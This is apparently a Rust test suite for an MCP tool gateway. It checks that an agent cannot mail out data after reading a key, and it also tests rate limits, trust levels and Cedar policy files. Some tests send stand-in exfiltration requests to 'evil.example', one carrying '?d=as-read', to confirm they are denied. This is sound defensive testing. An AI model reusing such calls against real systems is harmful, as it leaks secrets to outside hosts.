//! Policies: what no call alone shows, a sequence does, and no server hears of what it forbids.

use std::fs;
use std::sync::Arc;

use mcps_core::code::Code;
use serde_json::json;
use tokio::sync::Barrier;
use tokio::task::JoinSet;

use super::server::Server;
use super::{Gate, at_most_five, call_with, decision_of, over_http, read_key, send_mail};
use crate::listen::caller::Caller;
use crate::listen::modern;
use crate::wire::code_of;

const CLASSES: &str = "[server.tool.read_file]\nclass = [\"read\"]\n";
const MAIL: &str = "[server.tool.send_mail]\nclass = [\"send\"]\n";

fn read(id: u32) -> String {
    read_key(id, "read_file")
}

fn send(id: u32) -> String {
    send_mail(id, "send_mail")
}

/// Files and mail, each a server.
async fn office() -> (Server, Server, Gate) {
    let files = Server::with(&["read_file"]).await;
    let mail = Server::with(&["send_mail"]).await;
    let config = format!(
        "[tenant.default]\n{}{CLASSES}{}{MAIL}",
        over_http("files", &files),
        over_http("mail", &mail)
    );
    let gate = Gate::open(&config).await;
    (files, mail, gate)
}

#[tokio::test]
async fn a_key_that_was_read_is_not_sent_away_though_each_call_alone_is_fine() {
    let (files, mail, gate) = office().await;
    let mut caller = Caller::of(&gate.stage.agent, &gate.url);
    caller.open_session().await;
    let sends = |id| send(id).replace("send_mail", "mail__send_mail");
    let reads = |id| read(id).replace("read_file", "files__read_file");

    let told = caller.ask(&sends(1)).await;
    assert!(told[0].contains("send_mail("), "{told:?}");
    let told = caller.ask(&reads(2)).await;
    assert!(told[0].contains("read_file("), "{told:?}");
    let told = caller.ask(&sends(3)).await;
    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
    assert_eq!(mail.seen("tools/call").len(), 1);
    assert_eq!(files.seen("tools/call").len(), 1);

    // The operator finds rule, facts and policy by the id that the developer was told.
    let id = decision_of(&told[0]);
    let record = gate.record("decision", &id).await;
    assert_eq!(record["decision"], "deny");
    let fired = record["fired"].to_string();
    assert!(fired.contains("exfiltration-after-secret"), "{record}");
    assert!(
        record["facts"].to_string().contains("egress.unlisted"),
        "{record}"
    );
    assert_eq!(record["policy"].as_str().unwrap().len(), 64);
    assert!(
        !record.to_string().contains("evil.example"),
        "no argument is on record"
    );
    assert!(gate.process.words().contains(&id));
}

#[tokio::test]
async fn it_is_the_same_by_another_endpoint_in_another_session_and_after_a_crash() {
    let (_files, mail, mut gate) = office().await;
    let mut reader = gate.caller("files");
    reader.open_session().await;
    assert!(reader.ask(&read(1)).await[0].contains("read_file("));

    let mut sender = gate.caller("mail");
    sender.open_session().await;
    let told = sender.ask(&send(1)).await;
    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");

    gate.resume("mail").await;
    let mut sender = gate.caller("mail");
    sender.open_session().await;
    let told = sender.ask(&send(1)).await;
    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
    assert!(mail.seen("tools/call").is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn of_calls_that_are_released_at_once_not_one_slips_past_a_count() {
    let server = Server::with(&["look"]).await;
    let config = format!(
        "[tenant.default]\npolicy = [\"count.toml\"]\n{}",
        over_http("files", &server)
    );
    let stage = crate::wire::Stage::set();
    let count = at_most_five("session");
    fs::write(stage.world.dir().join("count.toml"), count).unwrap();
    let gate = Gate::open_on(stage, &config).await;
    let mut caller = gate.caller("files");
    caller.open_session().await;
    assert!(caller.ask(&call_with(99, "look", &json!({}))).await[0].contains("look("));
    let (caller, barrier) = (Arc::new(caller), Arc::new(Barrier::new(24)));
    let mut calls = JoinSet::new();
    for id in 0..24 {
        let (caller, barrier) = (Arc::clone(&caller), Arc::clone(&barrier));
        calls.spawn(async move {
            barrier.wait().await;
            caller
                .ask(&call_with(id, "look", &json!({})))
                .await
                .remove(0)
        });
    }
    let told = calls.join_all().await;
    let passed = told.iter().filter(|told| told.contains("look(")).count();
    assert_eq!((passed, server.seen("tools/call").len()), (4, 5));
    let denied = told
        .iter()
        .filter(|told| code_of(told) == Some(Code::Denied));
    assert_eq!(denied.count(), 20);
}

#[tokio::test]
async fn a_set_that_does_not_load_replaces_none() {
    let server = Server::with(&["look", "push"]).await;
    let stage = crate::wire::Stage::set();
    let folder = stage.world.dir().to_owned();
    let forbid = r#"@id("no-push") @reason("Not here.")
forbid (principal, action == Action::"call_tool", resource) when { resource.name == "push" };"#;
    fs::write(folder.join("team.cedar"), forbid).unwrap();
    let config = format!(
        "[tenant.default]\npolicy = [\"team.cedar\"]\n{}",
        over_http("files", &server)
    );
    let gate = Gate::open_on(stage, &config).await;
    let mut caller = gate.caller("files");
    caller.open_session().await;
    let refused = async |caller: &Caller, id| {
        let told = caller.ask(&call_with(id, "push", &json!({}))).await;
        assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
    };
    refused(&caller, 1).await;
    fs::write(
        folder.join("team.cedar"),
        "permit (principal, action, resource) when {",
    )
    .unwrap();
    gate.reconfigure(&config, "stays in force").await;
    refused(&caller, 2).await;
    fs::write(folder.join("team.cedar"), forbid.replace("push", "pull")).unwrap();
    gate.reconfigure(&config, "the configuration was exchanged")
        .await;
    assert!(caller.ask(&call_with(3, "push", &json!({}))).await[0].contains("push("));
    assert_eq!(server.seen("tools/call").len(), 1);
}

#[tokio::test]
async fn what_stands_beside_the_arguments_carries_no_secret_away_either() {
    let (_files, mail, gate) = office().await;
    let mut writer = gate.caller("mail");
    writer.open_session().await;
    let completion = |id: u32, host: &str| {
        let uri = format!("https://{host}/{{x}}");
        let params = json!({
            "ref": {"type": "ref/resource", "uri": uri},
            "argument": {"name": "x", "value": "as read"},
            "context": {"arguments": {"y": "z"}},
        });
        json!({"jsonrpc": "2.0", "id": id, "method": "completion/complete", "params": params})
            .to_string()
    };
    let answered = |id: u32, url: &str| {
        let arguments = r#""name":"send_mail","arguments":{"url":"http://localhost/"}"#;
        let answer = json!({"where": {"action": "accept", "content": {"url": url}}});
        let params = format!(r#"{arguments},"inputResponses":{answer},"#);
        modern(id, "tools/call", &params)
    };
    // What nobody forbids goes through, before a key was read and after.
    writer.ask(&completion(1, "evil.example")).await;
    assert_eq!(mail.seen("completion/complete").len(), 1);
    let mut reader = gate.caller("files");
    reader.open_session().await;
    assert!(reader.ask(&read(1)).await[0].contains("read_file("));
    writer.ask(&completion(2, "localhost")).await;
    assert_eq!(mail.seen("completion/complete").len(), 2);
    let newer = gate.stateless("mail", "send_mail");
    let told = newer.ask(&answered(3, "http://localhost/")).await;
    assert!(told[0].contains("send_mail("), "{told:?}");

    let told = writer.ask(&completion(4, "evil.example")).await;
    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
    assert_eq!(mail.seen("completion/complete").len(), 2);
    let told = newer
        .ask(&answered(5, "https://evil.example/?d=as-read"))
        .await;
    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
    assert_eq!(mail.seen("tools/call").len(), 1);
}

#[tokio::test]
async fn whose_trust_was_lowered_calls_nothing_that_takes_more() {
    let server = Server::with(&["look", "push", "guarded"]).await;
    let config = format!(
        "[tenant.default]\npolicy = [\"lower.toml\"]\n{}[server.tool.push]\nmin_level = 2\n",
        over_http("files", &server)
    );
    let stage = crate::wire::Stage::set();
    let lower = r#"
version = 1
[[fact]]
id = "look"
on = "call"
when = { tool = ["look"] }
[[fact]]
id = "guarded.low"
on = "call"
when = { tool = ["guarded"], level_below = 2 }
[[sequence]]
id = "looked"
match = "look"
then = "lower_trust(L1)"
reason = "It looked."
[[sequence]]
id = "guard"
match = "guarded.low"
then = "deny"
reason = "Not below L2."
"#;
    fs::write(stage.world.dir().join("lower.toml"), lower).unwrap();
    let gate = Gate::open_on(stage, &config).await;
    let mut caller = gate.caller("files");
    caller.open_session().await;
    let mut id = 0;
    let mut asks = async |tool: &str| {
        id += 1;
        caller.ask(&call_with(id, tool, &json!({}))).await.remove(0)
    };
    for tool in ["push", "guarded", "look"] {
        let told = asks(tool).await;
        assert!(told.contains(&format!("{tool}(")), "{told}");
    }
    let told = asks("push").await;
    assert_eq!(code_of(&told), Some(Code::TrustTooLow), "{told}");
    let record = gate.record("decision", &decision_of(&told)).await;
    assert_eq!(record["rule"], "server.files.tool.push.min_level");
    let told = asks("guarded").await;
    assert_eq!(code_of(&told), Some(Code::Denied), "{told}");
    assert!(asks("look").await.contains("look("));
    assert_eq!(server.seen("tools/call").len(), 4);
}

#[tokio::test]
async fn a_file_of_toolhive_permits_what_it_names_and_nothing_else() {
    let server = Server::with(&["weather", "admin_tool"]).await;
    let stage = crate::wire::Stage::set();
    let file = r#"{
  "version": "1.0",
  "type": "cedarv1",
  "cedar": {
    "policies": [
      "permit(principal, action == Action::\"call_tool\", resource == Tool::\"weather\");",
      "forbid(principal, action == Action::\"call_tool\", resource) when { context has arg_location && context.arg_location == \"Area 51\" };"
    ],
    "entities_json": "[]"
  }
}"#;
    fs::write(stage.world.dir().join("authz.json"), file).unwrap();
    let config = format!(
        "[tenant.default]\ndefault_policy = false\npolicy = [\"authz.json\"]\n{}",
        over_http("files", &server)
    );
    let gate = Gate::open_on(stage, &config).await;
    let mut caller = gate.caller("files");
    caller.open_session().await;
    let listed = caller
        .ask(r#"{"jsonrpc":"2.0","id":9,"method":"tools/list"}"#)
        .await;
    assert!(
        listed[0].contains("weather") && !listed[0].contains("admin_tool"),
        "{listed:?}"
    );
    let told = caller
        .ask(&call_with(1, "weather", &json!({"location": "Bonn"})))
        .await;
    assert!(told[0].contains("weather("), "{told:?}");
    let rule_of = async |id, tool: &str, location: &str| {
        let told = caller
            .ask(&call_with(id, tool, &json!({"location": location})))
            .await;
        assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
        gate.record("decision", &decision_of(&told[0])).await["rule"].clone()
    };
    assert_eq!(rule_of(2, "admin_tool", "Bonn").await, "default");
    assert_eq!(rule_of(3, "weather", "Area 51").await, "authz.json#policy1");
    assert_eq!(server.seen("tools/call").len(), 1);
}
